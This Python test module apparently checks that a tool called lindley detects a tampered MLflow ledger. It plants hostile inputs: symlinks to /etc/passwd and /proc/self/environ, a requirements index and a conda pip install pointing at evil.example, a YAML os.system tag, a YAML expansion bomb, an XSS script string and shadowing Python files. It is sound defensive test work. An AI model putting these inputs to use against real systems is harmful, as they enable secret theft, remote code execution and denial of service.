"""Tries on a real embedded ledger: MLflow's tables, and the files of its runs."""

from __future__ import annotations

import os
import shutil
import sqlite3
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from dataclasses import dataclass
from itertools import pairwise
from pathlib import Path

import yaml

from lindley.errors import LindleyError
from lindley.ledger.history import find_link
from lindley.ledger.mlflow import artifacts
from lindley.ledger.mlflow.store import MlflowLedger
from lindley.model.declaration import Declaration
from lindley.operations.update import plan_update
from tests.faults.attacks.table import Surface, refused, verdict
from tests.support.fakes import append, coins

NAME, HEAD = "coins", 2
STORED = Surface("registry and artifact store", "store")


@dataclass
class Stored:
    """An embedded ledger with two links, which each try gets as it was made.

    Parameters
    ----------
    root
        Its folder.
    pristine
        A copy of it.
    """

    root: Path
    pristine: Path
    declaration: Declaration

    @property
    def database(self) -> Path:
        return self.root / "mlflow.db"

    @property
    def ledger(self) -> MlflowLedger:
        artifacts._infos.clear()  # as a process that has seen nothing yet
        return MlflowLedger(f"sqlite:///{self.database}", self.root)

    def sql(self, query: str, *values: object) -> list[tuple]:
        """Run a statement on MLflow's tables."""
        with closing(sqlite3.connect(self.database)) as connection, connection:
            return connection.execute(query, values).fetchall()

    def folder(self, number: int = HEAD) -> Path:
        """Return the folder with the artifacts of a version's run."""
        query = "select run_id from model_versions where name=? and version=?"
        ((run_id,),) = self.sql(query, NAME, number)
        (found,) = self.root.glob(f"mlartifacts/*/{run_id}/artifacts")
        return found

    def restore(self) -> None:
        """Undo what the last try did."""
        shutil.rmtree(self.root / "mlartifacts")
        shutil.copytree(self.pristine / "mlartifacts", self.root / "mlartifacts")
        with (
            closing(sqlite3.connect(self.pristine / "mlflow.db")) as held,
            closing(sqlite3.connect(self.database)) as now,
        ):
            held.backup(now)

    def verified(self) -> str:
        return verdict(self.ledger, NAME)

    def served(self) -> str:
        """Fetch the belief as `lindley serve` does; return what became of it."""
        target = self.root / "served"
        shutil.rmtree(target, ignore_errors=True)
        return refused(lambda: find_link(self.ledger, NAME).download_belief(target).name)


@contextmanager
def stored(declaration: Declaration, folder: Path) -> Iterator[Stored]:
    """Make the ledger once."""
    root = folder / "ledger"
    root.mkdir()
    made = Stored(root, folder / "pristine", declaration)
    for start in (0, 10):
        append(made.ledger, declaration, coins(declaration, start))
    shutil.copytree(root, made.pristine)
    yield made


# -- files of a run -----------------------------------------------------------------------------------

_LINKS: dict[str, tuple[str, str]] = {
    "a record that is a link to a copy of itself": ("record.json", "COPY"),
    "a record that is a link to /dev/zero": ("record.json", "/dev/zero"),
    "a batch that is a link to itself": ("batch.parquet", "batch.parquet"),
    "a table that is a link to /proc/self/environ": ("summary.csv", "/proc/self/environ"),
    "the folder of the model, a link to a copy of itself": ("belief", "COPY"),
    "a further file that is a link to a secret": ("more.txt", "/etc/passwd"),
    "a further folder that is a link to the whole disk": ("all", "/"),
    "a further folder that is a link to its own parent": ("up", ".."),
}


@STORED.each("among the artifacts,", _LINKS, "found")
def link(ground: Stored, given: tuple[str, str]) -> str:
    name, target = given
    path = ground.folder() / name
    if target == "COPY":
        aside = ground.root / "aside" / name
        shutil.rmtree(ground.root / "aside", ignore_errors=True)
        aside.parent.mkdir()
        path.rename(aside)
        target = str(aside)
    path.unlink(missing_ok=True)
    path.symlink_to(target)
    return ground.verified()


_SPECIAL: dict[str, Callable[[Path], object]] = {
    "a further pipe": lambda folder: os.mkfifo(folder / "pipe"),
    "the record, a pipe": lambda folder: (
        (folder / "record.json").unlink() or os.mkfifo(folder / "record.json")
    ),
    "a further folder of 300 folders in each other": lambda folder: (
        (folder / Path(*["d"] * 300)).mkdir(parents=True)
        or (folder / Path(*["d"] * 300) / "x").write_text("x")
    ),
    "a further file of Python's start-up": lambda folder: (folder / "belief" / "x.pth").write_text(
        "import os"
    ),
    "sitecustomize beside the model": lambda folder: (folder / "belief" / "sitecustomize.py").write_text(
        "raise SystemExit"
    ),
    "bytecode beside the model": lambda folder: (folder / "belief" / "belief_model.pyc").write_bytes(b"\0"),
    "numpy.py beside the model": lambda folder: (folder / "belief" / "numpy.py").write_text(
        "raise SystemExit"
    ),
    "a pickle beside the model": lambda folder: (folder / "belief" / "python_model.pkl").write_bytes(b"."),
}


@STORED.each("among the artifacts,", _SPECIAL, "found R06")
def special(ground: Stored, make: Callable[[Path], object]) -> str:
    make(ground.folder())
    return ground.verified().replace("R03", "R06 R03")


@STORED.attempt("a table that states a size beyond the disk", "refused: LedgerUnavailable")
def sparse(ground: Stored) -> str:
    with (ground.folder() / "trace.nc").open("r+b") as file:
        file.truncate(2**42)
    return ground.verified()


@STORED.attempt("a file that this user may not read", "found")
def unreadable(ground: Stored) -> str:
    path = ground.folder() / "summary.csv"
    path.chmod(0)
    if os.geteuid() == 0:  # root reads it all the same
        path.unlink()
    outcome = ground.verified()
    return outcome.replace("refused", "found")


# -- MLmodel ------------------------------------------------------------------------------------------


def _model(edit: Callable[[dict], object]) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        path = folder / "belief" / "MLmodel"
        document = yaml.safe_load(path.read_text())
        edit(document)
        path.write_text(yaml.safe_dump(document))

    return change


def _flavor(**values: object) -> Callable[[Path], None]:
    return _model(lambda document: document["flavors"]["python_function"].update(values))


_UNFOLDING = "a: &a [x,x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{new}: &{new} [{','.join([f'*{old}'] * 10)}]\n" for old, new in pairwise("abcdefghi")
)
_MODELS: dict[str, Callable[[Path], object]] = {
    "another loader module": _flavor(loader_module="os"),
    "a code path elsewhere": _flavor(code="../../../../code"),
    "a folder of code that hides the standard library": _flavor(code="code"),
    "a pickle as its model": _flavor(python_model="python_model.pkl", model_code_path=None),
    "a model file elsewhere": _flavor(model_code_path="/tmp/evil.py"),
    "an environment with another index": lambda folder: (folder / "belief" / "requirements.txt").write_text(
        "--index-url http://evil.example\nnumpy\n"
    ),
    "a conda environment that runs pip": lambda folder: (folder / "belief" / "conda.yaml").write_text(
        "dependencies:\n- pip:\n  - git+https://evil.example\n"
    ),
    "a YAML tag that makes an object": lambda folder: (folder / "belief" / "MLmodel").write_text(
        "!!python/object/apply:os.system ['true']\n"
    ),
    "YAML that unfolds to 10^9 items": lambda folder: (folder / "belief" / "MLmodel").write_text(_UNFOLDING),
    "no signature": _model(lambda document: document.pop("signature", None)),
    "an example that is another": lambda folder: (folder / "belief" / "input_example.json").write_text("{}"),
    "artifacts that lie elsewhere": _flavor(
        artifacts={"draws": {"path": "/etc/passwd", "uri": "/etc/passwd"}}
    ),
}


@STORED.each("the model of MLflow with", _MODELS, "refused")
def model(ground: Stored, edit: Callable[[Path], object]) -> str:
    """Verification finds it, and `lindley serve` does not start it."""
    edit(ground.folder())
    outcome = ground.verified()
    assert outcome == "found R06", outcome
    return ground.served()


# -- tables of MLflow ---------------------------------------------------------------------------------

_TABLES: dict[str, tuple[str, str, tuple[object, ...]]] = {
    "the description of the registered model, a script": (
        "nothing",
        "update registered_models set description=? where name='coins'",
        ("<script>alert(1)</script>",),
    ),
    "a further alias like head": (
        "nothing",
        "insert into registered_model_aliases (name, alias, version) values ('coins', ?, 1)",
        ("he\u0430d",),
    ),
    "the run of the newest version, that of the first": (
        "found",
        "update model_versions set run_id=(select run_id from model_versions where name='coins' and "
        "version=1) where name='coins' and version=?",
        (HEAD,),
    ),
    "the status of a version, not ready": (
        "nothing",
        "update model_versions set status='FAILED_REGISTRATION' where name='coins' and version=?",
        (HEAD,),
    ),
    "the source of a version, an address on the web": (
        "found",
        "update model_versions set source='https://evil.example/belief' where name='coins' and version=?",
        (HEAD,),
    ),
    "the source of a version, with a query": (
        "found",
        "update model_versions set source=source || '?x=1' where name='coins' and version=?",
        (HEAD,),
    ),
    "the place from which MLflow loads, another folder": (
        "found",
        "update model_versions set storage_location='file:///x/belief' where name='coins' and version=?",
        (HEAD,),
    ),
    "the address of the run's artifacts, a path upwards": (
        "found",
        "update runs set artifact_uri=? where run_uuid=(select run_id from model_versions where "
        "name='coins' and version=2)",
        ("file:///etc/../../../../mlartifacts/1/x/artifacts",),
    ),
    "the times of versions, before 1970": (
        "nothing",
        "update model_versions set creation_time=?, last_updated_time=-1",
        (-1,),
    ),
    "a version number beyond 2^53": (
        "found",
        "update model_versions set version=? where name='coins' and version=2",
        (2**62,),
    ),
    "the name of the experiment, another": (
        "found R27",
        "update experiments set name=? where name='lindley/coins'",
        ("lindley/c\u043eins",),
    ),
    "the experiment, deleted": (
        "found R27",
        "update experiments set lifecycle_stage=? where name='lindley/coins'",
        ("deleted",),
    ),
    "the run of a link, deleted": (
        "found R27",
        "update runs set lifecycle_stage=? where run_uuid=(select run_id from model_versions where "
        "name='coins' and version=2)",
        ("deleted",),
    ),
    "a metric of a link, NaN": (
        "found R18",
        "update latest_metrics set value=0, is_nan=? where key='r_hat_max'",
        (1,),
    ),
    "a tag of 100,000 marks that turn text": (
        "found R05",
        "update model_version_tags set value=? where key='lindley.origin' and version='2'",
        ("\u202e" * 100_000,),
    ),
}


def _tables() -> None:
    for words, (expected, query, values) in _TABLES.items():

        def table(ground: Stored, given: tuple[str, tuple[object, ...]]) -> str:
            ground.sql(given[0], *given[1])
            outcome = ground.verified()
            return "harmless: it changes no link" if outcome in {"nothing", "warned R19"} else outcome

        wanted = "harmless" if expected == "nothing" else expected
        STORED.each("in MLflow's tables,", {words: (query, values)}, wanted)(table)


_tables()


@STORED.attempt("the experiment's artifacts moved to an address of a stranger", "refused: HomeRefused")
def home(ground: Stored) -> str:
    ground.sql("update experiments set artifact_location='s3://stranger/1' where name='lindley/coins'")
    batch = coins(ground.declaration, 50)
    return refused(lambda: plan_update(ground.ledger, ground.declaration, batch))


@STORED.attempt("the database, locked by another process for ever", "refused: LedgerUnavailable", costly=True)
def locked(ground: Stored) -> str:
    ledger = ground.ledger
    with closing(sqlite3.connect(ground.database, isolation_level=None)) as held:
        held.execute("begin exclusive")
        try:
            return refused(lambda: append(ledger, ground.declaration, coins(ground.declaration, 50)))
        finally:
            held.execute("rollback")


@STORED.attempt("the database, a link to another ledger's", "harmless")
def database_link(ground: Stored) -> str:
    other = ground.root / "other"
    shutil.rmtree(other, ignore_errors=True)
    other.mkdir()
    (other / "mlflow.db").symlink_to(ground.database)
    try:
        outcome = verdict(MlflowLedger(f"sqlite:///{other / 'mlflow.db'}", other), NAME)
    except LindleyError as error:
        outcome = f"refused: {type(error).__name__}"
    return f"harmless: {outcome}; it is the same ledger"
